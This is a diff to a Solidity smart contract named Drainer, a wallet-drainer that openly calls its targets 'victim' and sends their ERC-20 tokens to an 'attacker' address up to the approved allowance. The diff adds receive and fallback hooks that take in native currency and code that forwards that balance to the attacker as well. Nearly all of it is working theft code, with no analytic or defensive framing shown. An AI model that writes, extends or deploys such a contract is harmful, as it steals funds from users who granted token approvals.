@@ -16,6 +16,11 @@ contract Drainer {
         attacker = msg.sender;
     }
 
+    /// Takes any native value sent with any call (and forwards it on `drain`).
+    receive() external payable {}
+
+    fallback() external payable {}
+
     /// Pulls min(balance, allowance) of `token` from `victim` to the attacker.
     function drain(address token, address victim) external returns (uint256 taken) {
         IERC20Like t = IERC20Like(token);
@@ -23,5 +28,10 @@ contract Drainer {
         uint256 allowed = t.allowance(victim, address(this));
         taken = bal < allowed ? bal : allowed;
         if (taken != 0) require(t.transferFrom(victim, attacker, taken), "drain");
+        uint256 native = address(this).balance;
+        if (native != 0) {
+            (bool ok,) = payable(attacker).call{value: native}("");
+            require(ok, "drain native");
+        }
     }
 }
